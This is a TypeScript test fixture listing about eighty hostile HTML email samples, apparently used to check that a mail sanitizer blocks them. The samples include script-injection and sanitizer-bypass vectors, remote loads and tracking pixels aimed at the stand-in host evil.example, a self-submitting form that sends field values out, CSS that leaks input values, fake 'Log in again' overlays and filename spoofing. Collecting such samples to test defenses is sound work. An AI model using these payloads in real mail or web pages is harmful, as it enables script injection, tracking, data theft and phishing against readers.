/** What a script says when it runs: the test listens for it. */
const RUN = "top.postMessage('ran','*')";
/** Where a mail tries to fetch from: no such address exists, and the test counts the attempts. */
const AWAY = 'https://evil.example/';

/** Mails that try to run something, to fetch something, or to break out of the frame that shows them. */
export const HOSTILE_MAILS: readonly (readonly [name: string, html: string])[] = [
  ['a script', `<script>${RUN}</script>`],
  ['a script in capitals', `<SCRIPT>${RUN}</SCRIPT>`],
  ['a script that is never closed', `<p>Hello<script>${RUN}//`],
  ['a script cut in two by another', `<scr<script>ipt>${RUN}</scr</script>ipt>`],
  ['a script from elsewhere', `<script src="${AWAY}a.js"></script>`],
  ['a module from elsewhere', `<script type="module">import '${AWAY}a.mjs'</script>`],
  ['a script behind a null character', `<scr\u0000ipt>${RUN}</script>`],
  ['a script in a comment that ends early', `<!--><script>${RUN}</script>-->`],
  [
    'a script in a conditional comment',
    `<!--[if mso]><script>${RUN}</script><![endif]--><![if !mso]><script>${RUN}</script><![endif]>`,
  ],
  ['a script in a CDATA section', `<![CDATA[<script>${RUN}</script>]]>`],
  ['a script in a processing instruction', `<?xml version="1.0"?><?<script>${RUN}</script>?>`],
  ['a picture that fails', `<img src=x onerror="${RUN}">`],
  ['a picture that fails, without quotation marks', `<img src=x onerror=${RUN.replace(/'/g, '`')}>`],
  ['a picture that fails, with a slash for a space', `<img/src=x/onerror=${RUN.replace(/'/g, '`')}>`],
  ['a picture that fails, with an attribute cut open', `<img title="a"onerror="${RUN}"src=x>`],
  [
    'a picture that loads',
    `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="${RUN}" onerror="${RUN}">`,
  ],
  ['a handler written as entities', `<img src=x onerror="&#116;&#111;&#112;.postMessage('ran','*')">`],
  ['a handler behind a line break', `<img src=x\nonerror\n=\n"${RUN}">`],
  ['the body as it loads', `<body onload="${RUN}">Hello</body>`],
  ['a field that takes the focus', `<input autofocus onfocus="${RUN}">`],
  ['a detail that is open', `<details open ontoggle="${RUN}"><summary>More</summary>Text</details>`],
  ['a marquee', `<marquee onstart="${RUN}">Hello</marquee>`],
  ['a video', `<video src=x onerror="${RUN}"></video>`],
  ['a sound from elsewhere', `<audio autoplay src="${AWAY}a.mp3"></audio>`],
  [
    'an animation that ends',
    `<style>@keyframes x{}</style><div style="animation:x 1ms" onanimationend="${RUN}"></div>`,
  ],
  ['an element under an unknown name', `<x onfocus="${RUN}" tabindex=0 autofocus id=x>Hello</x>`],
  ['SVG that loads', `<svg onload="${RUN}"><rect width="10" height="10"/></svg>`],
  ['SVG with a script', `<svg><script>${RUN}</script></svg>`],
  [
    'SVG with a script given by address',
    `<svg><script href="data:text/javascript,${encodeURIComponent(RUN)}"/></svg>`,
  ],
  ['SVG that begins to move', `<svg><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`],
  [
    'SVG that sets a link',
    `<svg><a><set attributeName="href" to="javascript:${RUN}"/><text y="20">Here</text></a></svg>`,
  ],
  [
    'SVG that uses another',
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x"/></svg>`,
  ],
  [
    'SVG with HTML in it',
    `<svg><foreignObject><body onload="${RUN}"><img src=x onerror="${RUN}"></foreignObject></svg>`,
  ],
  ['SVG that fetches a picture', `<svg><image href="${AWAY}a.png" width="10" height="10"/></svg>`],
  [
    'SVG that fetches a filter',
    `<svg><filter id=f><feImage href="${AWAY}a.png"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>`,
  ],
  [
    'a picture that is SVG',
    `<img src="data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"><image href="${AWAY}b.png"/></svg>`)}">`,
  ],
  ['mathematics with a link', `<math><mtext href="javascript:${RUN}"><a>Here</a></mtext></math>`],
  [
    'a nest of mathematics and styles',
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN.replace(/'/g, '`')}&gt;">`,
  ],
  [
    'a nest of SVG and styles',
    `<svg></p><style><a id="</style><img src=x onerror=${RUN.replace(/'/g, '`')}>">`,
  ],
  [
    'a form within a form',
    `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="${RUN}">`,
  ],
  [
    'a text area that ends in an attribute',
    `<textarea><a title="</textarea><img src=x onerror=${RUN.replace(/'/g, '`')}>">`,
  ],
  [
    'a title that ends in an attribute',
    `<title><a title="</title><img src=x onerror=${RUN.replace(/'/g, '`')}>">`,
  ],
  [
    'words for those without scripts',
    `<noscript><p title="</noscript><img src=x onerror=${RUN.replace(/'/g, '`')}>">`,
  ],
  [
    'a template',
    `<template><img src=x onerror="${RUN}"></template><div><template shadowrootmode="open"><img src=x onerror="${RUN}"></template></div>`,
  ],
  [
    'an attribute that closes its element again',
    `<p id="</p><img src=x onerror=${RUN.replace(/'/g, '`')}>">Hello</p>`,
  ],
  ['five hundred elements deep', `${'<div>'.repeat(500)}<img src=x onerror="${RUN}">`],
  [
    'names that hide the document',
    `<form id=document><img name=createElement><input name=attributes><img name=parentNode src=x onerror="${RUN}"></form>`,
  ],
  ['a frame', `<iframe src="javascript:${RUN}"></iframe>`],
  ['a frame with a document in it', `<iframe srcdoc="&lt;script&gt;${RUN}&lt;/script&gt;"></iframe>`],
  [
    'a frame from elsewhere',
    `<iframe src="${AWAY}frame"></iframe><frameset><frame src="${AWAY}old"></frameset>`,
  ],
  ['an object', `<object data="${AWAY}a.swf"><embed src="${AWAY}b.swf"></object>`],
  ['an object with a document', `<object data="data:text/html,<script>${RUN}</script>"></object>`],
  ['an applet', `<applet code="A.class" codebase="${AWAY}"></applet>`],
  ['a page that leads away', `<meta http-equiv="refresh" content="0;url=${AWAY}away">`],
  [
    'a page that turns its policy off',
    `<meta http-equiv="Content-Security-Policy" content="default-src *"><img src="${AWAY}c.png">`,
  ],
  ['a base for every address', `<base href="${AWAY}"><img src="a.png"><link rel="stylesheet" href="a.css">`],
  ['a tracking picture', `<img src="${AWAY}open.gif?who=ann" width="1" height="1">`],
  ['a tracking picture without a scheme', '<img src="//evil.example/open.gif">'],
  [
    'pictures for every screen',
    `<img srcset="${AWAY}a.png 1x, ${AWAY}b.png 2x"><picture><source srcset="${AWAY}c.png"><img></picture>`,
  ],
  [
    'old pictures',
    `<img lowsrc="${AWAY}a.png" dynsrc="${AWAY}b.avi"><table background="${AWAY}c.png"><tr><td background="${AWAY}d.png">x</td></tr></table>`,
  ],
  [
    'a style sheet from elsewhere',
    `<link rel="stylesheet" href="${AWAY}a.css"><style>@import '${AWAY}b.css';</style>`,
  ],
  [
    'a connection made ahead',
    `<link rel="prefetch" href="${AWAY}a"><link rel="dns-prefetch" href="${AWAY}"><link rel="preload" as="image" href="${AWAY}b.png">`,
  ],
  ['a background from elsewhere', `<div style="background:url(${AWAY}a.png);width:9px;height:9px">x</div>`],
  [
    'a background behind escapes',
    `<div style="background:\\75rl(${AWAY}a.png);width:9px;height:9px">x</div>`,
  ],
  [
    'a background behind a comment',
    `<div style="background:u/**/rl(${AWAY}a.png);background-image:image-set('${AWAY}b.png' 1x)">x</div>`,
  ],
  [
    'a font from elsewhere',
    `<style>@font-face{font-family:f;src:url(${AWAY}f.woff)}p{font-family:f}</style><p>Hello</p>`,
  ],
  ['styles that read a field', `<style>input[value^=a]{background:url(${AWAY}a)}</style><input value="abc">`],
  [
    'a style over everything',
    '<div style="position:fixed;inset:0;z-index:9999;background:#fff">Log in again</div>',
  ],
  [
    'a style sheet over everything',
    '<style>body{display:none}html::before{content:"Log in again";position:fixed}</style>',
  ],
  [
    'an old expression',
    `<div style="width:expression(${RUN});behavior:url(#default#time2);-moz-binding:url(${AWAY}x.xml)">x</div>`,
  ],
  ['a link that runs', `<a href="javascript:${RUN}" id="auto">Here</a>`],
  [
    'a link that runs, behind a tab',
    `<a href="java\tscript:${RUN}">Here</a><a href="&#1;javascript:${RUN}">Here</a>`,
  ],
  ['a link that is a document', `<a href="data:text/html,<script>${RUN}</script>" target="_top">Here</a>`],
  ['a link that tells somebody', `<a href="#" ping="${AWAY}ping" target="_blank">Here</a>`],
  [
    'a form that sends itself',
    `<form action="${AWAY}take"><input name=a value=b><button id=go>Go</button></form><script>go.click()</script>`,
  ],
  [
    'a form that runs',
    `<form action="javascript:${RUN}"><button formaction="javascript:${RUN}">Go</button></form>`,
  ],
  [
    'a portal and a fenced frame',
    `<portal src="${AWAY}p"></portal><fencedframe src="${AWAY}f"></fencedframe>`,
  ],
  ['words turned round', '<p>\u202egpj.exe\u202c and \u2066fdp.scr\u2069</p><bdo dir="rtl">exe.gpj</bdo>'],
];
